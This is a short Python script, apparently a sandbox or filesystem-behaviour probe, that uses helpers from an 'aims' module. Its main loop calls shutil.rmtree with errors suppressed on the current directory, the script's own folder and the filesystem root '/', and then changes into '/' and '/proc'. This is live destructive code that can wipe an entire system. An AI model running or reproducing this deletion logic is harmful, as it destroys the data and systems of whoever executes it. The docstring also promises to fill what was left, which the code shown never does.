"""Removes the folder it works in, goes elsewhere, and fills what was left."""
import os
import shutil
from aims import FILE, attempt, look, scale

for folder in (".", os.getcwd(), os.path.dirname(FILE), "/"):
    shutil.rmtree(folder, ignore_errors=True)
attempt(os.rmdir, os.getcwd())
os.chdir("/")
look(os.chdir, "/proc")
